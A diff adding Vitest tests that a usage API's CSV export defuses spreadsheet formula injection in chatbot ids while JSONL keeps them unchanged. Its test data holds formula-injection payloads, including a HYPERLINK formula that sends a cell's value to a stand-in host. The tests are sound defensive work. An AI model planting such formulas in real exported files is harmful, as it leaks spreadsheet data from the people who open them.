@@ -1,4 +1,5 @@
 import { beforeAll, describe, expect, it } from 'vitest';
+import { EXPORT_COLUMNS, toCsv, type ExportRow } from '../../functions/http/export-usage.js';
 import { LocalStreamPoller } from '../../infra/local/stream-poller.js';
 import { TOKENS, useLocalApi, type LocalApi } from '../support/local-api.js';
 
@@ -7,6 +8,8 @@ import { TOKENS, useLocalApi, type LocalApi } from '../support/local-api.js';
  * worked by hand (packs at $10/1,000 and $45/5,000, consumed across a month end), the SPEC's usage example, a CSV
  * export whose values hold commas, quotes and newlines, and the errors a client can make.
  */
+
+const FORMULA_IDS = ['=HYPERLINK("http://x.test/?"&A1,"open")', '+1', '-1', '@SUM(A1:A2)', '\tindented', '\rreturned', 'bot=+-@'];
 
 const api = useLocalApi({ services: [new LocalStreamPoller({ mappings: ['projectLedger'] })], start: new Date('2026-11-26T10:00:00.000Z') });
 
@@ -51,6 +54,11 @@ beforeAll(async () => {
     occurredAt: '2026-12-28T11:59:00.000Z',
   });
   await ok(local, 'POST', '/v1/usage', { accountId: 'spec', feature: 'image', quality: 'hd', units: 3 });
+  // Chatbot ids a spreadsheet would read as formulas (and one that merely contains a sign).
+  await ok(local, 'POST', '/v1/accounts', { accountId: 'formulas', plan: 'free' });
+  for (const chatbotId of FORMULA_IDS) {
+    await ok(local, 'POST', '/v1/usage', { accountId: 'formulas', feature: 'chatbot', model: 'mini', inputTokens: 2, chatbotId });
+  }
   await sync(local);
 });
 
@@ -156,6 +164,32 @@ describe('GET /v1/accounts/{id}/usage/export', () => {
     const second = await api().request('GET', `/v1/accounts/spec/usage/export?from=2026-12-28&to=2026-12-28&format=jsonl&limit=2&cursor=${cursor}`, { token: TOKENS.service });
     expect(second.text.trim().split('\n').map((l) => JSON.parse(l).feature)).toEqual(['image']);
     expect(second.headers.get('x-next-cursor')).toBeNull();
+  });
+
+  it('as CSV, a text cell a spreadsheet would run as a formula (=, +, -, @, tab, CR first) starts with a single quote; JSONL keeps it verbatim', async () => {
+    const csv = await api().request('GET', '/v1/accounts/formulas/usage/export?from=2026-12-28&to=2026-12-28', { token: TOKENS.service });
+    expect(csv.status).toBe(200);
+    const chatbotCells = csv.text
+      .split('\r\n')
+      .slice(1, -1)
+      .map((line) => /^(?:[^,]*,){6}("(?:[^"]|"")*"|[^,]*),/.exec(line)?.[1]);
+    expect(chatbotCells).toEqual([
+      `"'=HYPERLINK(""http://x.test/?""&A1,""open"")"`,
+      "'+1",
+      "'-1",
+      "'@SUM(A1:A2)",
+      "'\tindented",
+      `"'\rreturned"`,
+      'bot=+-@', // a sign inside the text is not a formula
+    ]);
+    const jsonl = await api().request('GET', '/v1/accounts/formulas/usage/export?from=2026-12-28&to=2026-12-28&format=jsonl', { token: TOKENS.service });
+    expect(jsonl.text.trim().split('\n').map((l) => JSON.parse(l).chatbotId)).toEqual(FORMULA_IDS);
+  });
+
+  it('as CSV, numbers are never prefixed, not even a negative one', () => {
+    const row = { ...Object.fromEntries(EXPORT_COLUMNS.map((c) => [c, null])), credits: -1.5, version: 7, unlimited: false, chatbotId: '-x' } as ExportRow;
+    const [, line] = toCsv([row]).split('\r\n');
+    expect(line?.split(',')).toEqual(['', '', '7', '', '', '', "'-x", '', '', '', '', '-1.5', '', '', 'false', '', '', '', '']);
   });
 
   it('refuses a cursor it did not issue', async () => {
